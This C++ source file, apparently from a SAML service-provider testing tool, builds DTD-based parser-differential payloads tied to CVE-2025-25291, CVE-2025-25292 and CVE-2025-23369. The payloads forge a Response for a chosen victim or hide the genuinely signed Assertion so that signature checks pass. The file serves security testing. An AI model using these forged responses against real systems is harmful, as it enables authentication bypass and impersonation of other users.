// SPDX-License-Identifier: Apache-2.0
// parser.dtd_differential — a DTD that makes a DTD-aware parser and a DTD-ignoring one read two
// different documents (attack-catalogue PD-DOCTYPE-COMMENT: CVE-2025-25291; PD-ATTLIST-NS:
// CVE-2025-25292, CVE-2025-66567; PD-ENTITY-ID: CVE-2025-23369), built as SAMLRaider's helpers
// build them. SAML2int IIP-G03 and saml-core §3.1: an SP refuses any DTD, so none of the three
// readings is ever reached.
#include "mutators/c14n/c14n.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/codec.hpp"
#include "samlt/core/saml_names.hpp"

#include <openssl/evp.h>

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

constexpr std::string_view k_end_tag = "</samlp:Response>";

core::Result<std::string> without_end_tag(const std::string& xml) {
  if (xml.size() < k_end_tag.size() || xml.compare(xml.size() - k_end_tag.size(), k_end_tag.size(), k_end_tag) != 0) {
    return core::fail(core::Reason::mutator_not_applicable, "the message does not end with </samlp:Response>");
  }
  return xml.substr(0, xml.size() - k_end_tag.size());
}

xmlNode* own_signature(const xmlNode* element) { return core::child_named(element, n::ns_dsig, "Signature"); }

// base64(H("")) for the DigestMethod of `signature`: the digest of the empty octet stream a
// failed canonicalization turns into (attack-catalogue C14N-VOID).
std::string empty_digest(const xmlNode* signature) {
  auto methods = core::descendants_named(signature, n::ns_dsig, "DigestMethod");
  std::string uri = methods.empty() ? "" : core::attribute(methods[0], "Algorithm").value_or("");
  const EVP_MD* md = uri == n::alg_sha1 ? EVP_sha1() : uri == n::alg_sha384 ? EVP_sha384()
                                                   : uri == n::alg_sha512 ? EVP_sha512() : EVP_sha256();
  unsigned char out[EVP_MAX_MD_SIZE];
  unsigned int size = 0;
  EVP_Digest("", 0, out, &size, md, nullptr);
  return core::base64_encode(std::string_view(reinterpret_cast<const char*>(out), size));
}

// Points every node of `tree` that used a declaration of `from` at the same declaration on `tree`.
void redeclare(xmlNode* tree, xmlNode* node, const xmlNode* from) {
  for (xmlNs* old = from->nsDef; old != nullptr; old = old->next) {
    if (node->ns == old) {
      xmlNs* mine = xmlSearchNs(tree->doc, tree, old->prefix);
      if (mine == nullptr || !xmlStrEqual(mine->href, old->href) || mine == old) {
        mine = xmlNewNs(tree, old->href, old->prefix);
      }
      node->ns = mine;
    }
  }
  for (xmlNode* child = node->children; child != nullptr; child = child->next) {
    if (child->type == XML_ELEMENT_NODE) {
      redeclare(tree, child, from);
    }
  }
}

// The children of `signature` under a new `<Signature>` in no namespace inside `parent`: each
// child declares the namespaces it used from the old Signature, so only a parser that applies a
// DTD default `xmlns` sees a ds:Signature.
void append_unqualified_signature(xmlNode* parent, xmlNode* signature) {
  xmlNode* bare = xmlNewDocNode(parent->doc, nullptr, BAD_CAST "Signature", nullptr);
  xmlAddChild(parent, bare);
  while (xmlNode* child = signature->children) {
    xmlUnlinkNode(child);
    xmlAddChild(bare, child);
    if (child->type == XML_ELEMENT_NODE) {
      redeclare(child, child, signature);
    }
  }
}

// DTD-aware parsers (libxml2) see the forged Response, whose content is a CDATA section holding
// the original; REXML ends the DOCTYPE early and sees the original between two comments, which
// exclusive c14n drops, so the original's signature verifies there.
std::string doctype_comment(const std::string& forged_open, const std::string& original_open) {
  return "<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_open + "<![CDATA[-->\n" + original_open +
         "<!--]]>-->" + std::string(k_end_tag);
}

}  // namespace

// Params: form (doctype_comment | attlist_namespace | entity_in_id, default doctype_comment),
// victim (for doctype_comment's forged Response).
core::Result<void> parser_dtd_differential(Target& target) {
  auto form_param = string_param(target, "form");
  if (!form_param) {
    return core::fail(form_param.error());
  }
  std::string form = form_param->value_or("doctype_comment");
  auto victim = victim_of(target);
  if (!victim) {
    return core::fail(victim.error());
  }
  auto parsed = core::parse_strict(*target.xml);
  if (!parsed) {
    return core::fail(core::Reason::mutator_not_applicable, "the message does not parse: " + parsed.error().detail);
  }
  core::XmlDoc doc = std::move(*parsed);
  xmlNode* response = doc.root();
  xmlNode* assertion = core::child_named(response, n::ns_assertion, "Assertion");
  xmlNode* issuer = core::child_named(response, n::ns_assertion, "Issuer");
  if (assertion == nullptr || issuer == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no Issuer and Assertion in the Response");
  }
  if (form == "doctype_comment") {
    auto original_open = without_end_tag(*target.xml);
    if (!original_open) {
      return core::fail(original_open.error());
    }
    write_victim(assertion, *victim);
    auto forged_open = without_end_tag(core::serialize(doc));
    if (!forged_open) {
      return core::fail(forged_open.error());
    }
    *target.xml = doctype_comment(*forged_open, *original_open);
    return {};
  }
  if (form == "attlist_namespace") {
    xmlNode* source = own_signature(assertion) ? own_signature(assertion) : own_signature(response);
    xmlNode* status = core::child_named(response, n::ns_protocol, "Status");
    if (source == nullptr || status == nullptr) {
      return core::fail(core::Reason::mutator_not_applicable, "no Signature or no Status");
    }
    bool assertion_signed = source->parent == assertion;
    std::string reference_id = core::attribute(response, "ID").value_or("");
    // The Assertion gets a copy of SignedInfo whose DigestValue is H(""), and a namespace
    // declaration libxml2's C14N refuses (SAMLRaider CVE_2025_25292.java).
    xmlNode* decoy = xmlDocCopyNode(source, doc.get(), 1);
    for (xmlNode* digest : core::descendants_named(decoy, n::ns_dsig, "DigestValue")) {
      core::set_text(digest, empty_digest(source));
    }
    for (xmlNode* signature : core::descendants_named(response, n::ns_dsig, "Signature")) {
      if (signature != source) {
        core::remove_node(signature);
      }
    }
    xmlUnlinkNode(source);
    xmlAddNextSibling(core::child_named(assertion, n::ns_assertion, "Issuer"), decoy);
    xmlNewNs(assertion, BAD_CAST "http://example.com\xC2\x80", BAD_CAST "example");
    xmlNode* detail = core::append_element(status, n::ns_protocol, "samlp", "StatusDetail");
    append_unqualified_signature(detail, source);
    xmlFreeNode(source);
    if (!assertion_signed) {
      core::set_attribute(assertion, "ID", reference_id);
      core::set_attribute(response, "ID", reference_id + "ffff");
    }
    *target.xml = "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"" + std::string(n::ns_dsig) +
                  "\" xmlns CDATA \"block\">]>" + core::serialize(doc);
    return {};
  }
  if (form == "entity_in_id") {
    xmlNode* signature = own_signature(assertion);
    if (signature == nullptr) {
      return core::fail(core::Reason::mutator_not_applicable, "the Assertion is not signed");
    }
    std::string id = core::attribute(assertion, "ID").value_or("");
    if (xmlNode* response_signature = own_signature(response)) {
      core::remove_node(response_signature);
    }
    // A copy of the Assertion signature after the Response Issuer, carrying the signed Assertion
    // in ds:Object; the visible Assertion loses its signature and gets another ID
    // (SAMLRaider CVE_2025_23369.java).
    xmlNode* carrier = xmlDocCopyNode(signature, doc.get(), 1);
    xmlAddNextSibling(issuer, carrier);
    xmlNode* object = core::append_element(carrier, n::ns_dsig, "", "Object");
    xmlNode* hidden = xmlDocCopyNode(assertion, doc.get(), 1);
    xmlAddChild(object, hidden);
    core::set_attribute(hidden, "ID", "samlt-entity-bypass");
    core::set_attribute(response, "ID", "samlt-entity-id");
    core::set_attribute(assertion, "ID", id + "ffff");
    core::remove_node(signature);
    std::string xml = core::serialize(doc);
    for (auto [from, to] : {std::pair<std::string, std::string>{"ID=\"samlt-entity-id\"", "ID=\"&idViaEntity;\""},
                           {"ID=\"samlt-entity-bypass\"", "ID=\"&BypassIDUniqueness;" + id + "\""}}) {
      auto at = xml.find(from);
      if (at == std::string::npos) {
        return core::fail(core::Reason::internal_error, "placeholder " + from + " not serialised");
      }
      xml.replace(at, from.size(), to);
    }
    *target.xml = "<!DOCTYPE response [\n<!ENTITY idViaEntity \"" + id +
                  "\">\n<!ENTITY BypassIDUniqueness \"&#x50;\">\n]>" + xml;
    return {};
  }
  return core::fail(core::Reason::mutator_params_invalid,
                    "/form: expected doctype_comment, attlist_namespace or entity_in_id");
}

}  // namespace samlt::idp::mutators
